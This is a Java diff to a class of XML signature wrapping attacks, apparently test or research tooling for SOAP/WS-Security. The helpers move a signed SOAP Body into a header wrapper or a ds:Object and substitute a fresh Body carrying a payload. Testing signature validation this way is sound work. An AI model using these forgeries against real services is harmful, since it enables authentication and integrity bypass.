@@ -49,13 +49,16 @@ public final class Attacks {
         return bytes -> {
             Document document = SoapForge.document(bytes);
             change.on(document);
-            return SoapForge.serialize(document);
+            byte[] attacked = SoapForge.serialize(document);
+            // or the attack would fail for being no XML
+            SoapForge.document(attacked);
+            return attacked;
         };
     }
 
     private static void toHeader(Document document, String other, boolean sameId) {
         Element signed = SoapForge.body(document);
-        Element wrapper = document.createElementNS("urn:attack", "x:wrapper");
+        Element wrapper = SoapForge.element(document, "urn:attack", "x:wrapper");
         Element body = fresh(document, other);
         if (sameId) {
             body.setAttributeNS(Wus.WSU, "wsu:Id", signed.getAttributeNS(Wus.WSU, "Id"));
@@ -68,7 +71,7 @@ public final class Attacks {
     private static void toObject(Document document, String other) {
         Element signed = SoapForge.body(document);
         signed.getParentNode().replaceChild(fresh(document, other), signed);
-        Element object = document.createElementNS(Wus.DS, "ds:Object");
+        Element object = SoapForge.element(document, Wus.DS, "ds:Object");
         object.appendChild(signed);
         SoapForge.first(document, Wus.DS, "Signature").appendChild(object);
     }
@@ -144,7 +147,7 @@ public final class Attacks {
     }
 
     private static Element fresh(Document document, String payload) {
-        Element body = document.createElementNS(Wus.SOAP, "s:Body");
+        Element body = SoapForge.element(document, Wus.SOAP, "s:Body");
         body.appendChild(payload(document, payload));
         return body;
     }
